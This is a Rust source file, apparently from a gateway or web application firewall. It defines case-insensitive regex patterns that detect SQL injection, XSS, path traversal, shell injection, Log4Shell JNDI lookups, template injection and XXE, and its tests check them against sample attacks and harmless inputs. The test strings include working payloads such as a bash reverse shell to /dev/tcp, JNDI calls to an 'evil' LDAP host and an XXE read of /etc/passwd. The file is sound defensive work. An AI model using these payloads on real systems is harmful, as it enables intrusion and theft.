//! The patterns that ship, by the attack that they are about.
//!
//! They know attacks as they are usually written, and nothing more: whoever writes one in another way gets past them, and a customer who is
//! called `O'Neil OR 1=1` does not. What keeps an attack from doing harm is the program behind the gateway; these make the noise of scanners
//! end here, and buy time on the day that a hole becomes known. All of them ignore case and are matched in linear time.

/// Name and patterns.
pub(super) const SETS: &[(&str, &[&str])] = &[
    (
        "sql-injection",
        &[
            // Blanks may be comments: `UNION/**/SELECT`.
            r"\bunion(?:\s|\+|/\*.*?\*/|\()+(?:all(?:\s|\+|/\*.*?\*/|\()+|distinct(?:\s|/\*.*?\*/)+)?select\b",
            r#"['"`)]\s*(?:or|and|\|\||&&|xor)\s*(?:not\s+)?['"`(]*[\w.@]+['"`)]*\s*(?:=|<|>|!=|like\b|in\s*\(|is\b|between\b)"#,
            r"\b(?:or|and)\s+\(?\d+\)?\s*(?:=|<|>)\s*\(?\d+",
            r";\s*(?:(?:drop|alter|create|truncate)\s+(?:table|database|schema|user|role|view|index|procedure|function)\b|delete\s+from\b|insert\s+into\b|update\s+\S+\s+set\b|exec(?:ute)?\s+\w|shutdown\b|declare\s+@)",
            r"\b(?:sleep|benchmark|pg_sleep|load_file|extractvalue|updatexml|dbms_pipe\.receive_message|utl_http\.request)\s*\(",
            r"\bwaitfor\s+delay\b",
            r"\bxp_(?:cmdshell|dirtree|regread)\b",
            r"\binto\s+(?:out|dump)file\b",
            r"\binformation_schema\s*\.",
            r#"['"`]\s*(?:;|\))*\s*(?:--(?:\s|$|-)|#\s*$|/\*)"#,
        ],
    ),
    (
        "xss",
        &[
            r"<\s*/?\s*(?:script|iframe|object|embed|applet|base|frameset|meta|link|style|svg|math|template)\b",
            r#"<[a-z!/][^>]*?[\s/"']on[a-z]{3,24}\s*="#,
            r"\b(?:java|vb|live)\s*script\s*:",
            r"\bdata\s*:\s*(?:text/html|image/svg\+xml|application/xhtml)",
            r"<[^>]*\b(?:srcdoc|formaction|xlink:href)\s*=",
            r"\bdocument\s*\.\s*(?:cookie|domain|write(?:ln)?)\b",
        ],
    ),
    (
        "path-traversal",
        &[
            r"(?:^|[/\\=;,\x00])\.\.(?:[/\\;\x00]|$)",
            r"(?:^|[/\\=])\.\.\.\.//?",
            // `.` and `/` in too many bytes (UTF-8 that is none).
            r"\xc0[\xae\xaf]",
            r"/etc/(?:passwd|shadow|group|hosts|sudoers)\b",
            r"/proc/(?:self|\d+)/",
            r"\b[a-z]:[/\\](?:windows|winnt|boot\.ini)\b",
            r"(?:^|/)\.(?:git/|env$|env/|htpasswd|htaccess|ssh/|aws/|svn/)",
            r"\x00",
        ],
    ),
    (
        "shell",
        &[
            r"(?:[;&|\n]|\|\|)\s*(?:sudo\s+)?(?:/(?:usr/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ping|powershell|cmd|python\d?|perl|php|ruby|rm|chmod|nslookup|dig|tftp|certutil)(?:\.exe)?(?:\s+[-/~$.<>|'\x22\w*]|\s*$|\s*[;&|<>])",
            r"\$\([^()]*[\w/][^()]*\)",
            r"`[^`]*[a-z/][^`]*`",
            r"\$\{?ifs\b",
            r"/bin/(?:ba|z|da|a|k|c|tc)?sh\b",
            // Shellshock.
            r"\(\)\s*\{\s*[:_a-z>]",
            r"/dev/(?:tcp|udp)/",
        ],
    ),
    (
        "jndi",
        &[
            // Log4Shell, and the look-ups that hide it.
            r"\$\{\s*jndi\s*:",
            r"\$\{[^{}]*\$\{[^{}]*\}",
            r"\$\{\s*(?:lower|upper|env|sys|java|date|ctx|main|bundle|map|marker|sd|base64)\s*:",
            r"\$\{\s*:*-",
            r"\b(?:ldaps?|rmi|iiop|corba|nis)://",
        ],
    ),
    (
        "template",
        &[
            // Expressions of template engines (Jinja, Freemarker, EL, OGNL, SpEL).
            r"\{\{[^{}]*[*+._(\[|][^{}]*\}\}",
            r"\{%[^%]*%\}",
            r"<#assign\b|\$\{[^}]*\bnew\s*\(",
            r"[#$%]\{[^}]*(?:T\s*\(|@java\.|\.getclass\b|runtime|processbuilder|\d\s*\*\s*\d)",
            r"\b__(?:class|mro|subclasses|globals|import)__\b",
            r"class\.module\.classloader",
        ],
    ),
    (
        "xxe",
        &[
            // Entities of XML documents.
            r"<!\s*entity\b",
            r"<!\s*doctype\b[^>]*(?:\[|\bsystem\b|\bpublic\b)",
            r"<\s*xi:include\b",
        ],
    ),
];

#[cfg(test)]
mod tests {
    use regex::bytes::RegexSetBuilder;

    use super::*;

    /// The sets in which the text is found.
    fn found(text: &str) -> Vec<&'static str> {
        let hit = |patterns: &[&str]| {
            let patterns = patterns.iter().map(|pattern| format!("(?-u:{pattern})"));
            let set = RegexSetBuilder::new(patterns).case_insensitive(true).dot_matches_new_line(true).build();
            set.expect("patterns").is_match(text.as_bytes())
        };
        SETS.iter().filter(|(_, patterns)| hit(patterns)).map(|(name, _)| *name).collect()
    }

    #[test]
    fn attacks_as_they_are_usually_written() {
        for (name, attacks) in [
            (
                "sql-injection",
                &[
                    "1 UNION SELECT password FROM users",
                    "1/**/uNiOn/**/all/**/SeLeCt 1,2",
                    "' OR '1'='1",
                    "admin'--",
                    "admin' #",
                    "x') or ('a'='a",
                    "1 or 1=1",
                    "1; DROP TABLE users",
                    "1 AND SLEEP(5)",
                    "'; WAITFOR DELAY '0:0:5'--",
                    "1;exec xp_cmdshell 'dir'",
                    "select a from information_schema.tables",
                ][..],
            ),
            (
                "xss",
                &[
                    "<script>alert(1)</script>",
                    "<ScRiPt src=//x>",
                    "<img src=x onerror=alert(1)>",
                    "<svg/onload=alert(1)>",
                    "<a href=\"javascript:alert(1)\">",
                    "\"><body onload =x>",
                    "data:text/html;base64,PHNj",
                    "new Image().src='//x?'+document.cookie",
                ],
            ),
            (
                "path-traversal",
                &[
                    "../../etc/passwd",
                    "a/..\\..\\windows",
                    "..;/manager",
                    "file=../x",
                    "c:\\windows\\win.ini",
                    "/.git/config",
                    "a\0.png",
                    "....//....//etc",
                ],
            ),
            (
                "shell",
                &[
                    "; cat /etc/passwd",
                    "a|id",
                    "a && curl http://x",
                    "$(whoami)",
                    "`id`",
                    "x;${IFS}ls",
                    "() { :;}; /bin/bash -c x",
                    "bash -i >& /dev/tcp/1.2.3.4/1",
                ],
            ),
            (
                "jndi",
                &[
                    "${jndi:ldap://x/a}",
                    "${${lower:j}ndi:rmi://x}",
                    "${${::-j}${::-n}di:x}",
                    "${env:AWS_SECRET}",
                    "ldap://evil/a",
                ],
            ),
            (
                "template",
                &[
                    "{{7*7}}",
                    "{{ config.items() }}",
                    "${7*7}",
                    "#{T(java.lang.Runtime)}",
                    "''.__class__.__mro__",
                    "class.module.classLoader.resources",
                ],
            ),
            ("xxe", &["<!DOCTYPE a [ <!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "<!entity % x SYSTEM 'http://x'>"]),
        ] {
            for attack in attacks {
                assert!(found(attack).contains(&name), "{name}: {attack}: {:?}", found(attack));
            }
        }
    }

    #[test]
    fn what_people_and_browsers_write() {
        for harmless in [
            "",
            "O'Neil and sons",
            "Miller & Sons; a shop",
            "select the best union of states",
            "drop me a line; update follows",
            "it's 1 or 2",
            "a <b and c> d",
            "version 1..2",
            "file..name.txt",
            "50% off (only today)",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36",
            "curl/8.14.1",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "\"33a64df5\", W/\"abc\"",
            "https://example.com/a?b=c&d=e#f",
            "session=abc; id=5; lang=de",
            "the condition = x",
            "${name}",
            "costs $5 (net)",
            "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl",
            "no-cache, max-age=0",
            "2026-11-29T01:00:00Z",
            "ann@example.com",
            "{\"a\":{\"b\":[1,2]}}",
        ] {
            assert_eq!(found(harmless), Vec::<&str>::new(), "{harmless}");
        }
    }
}
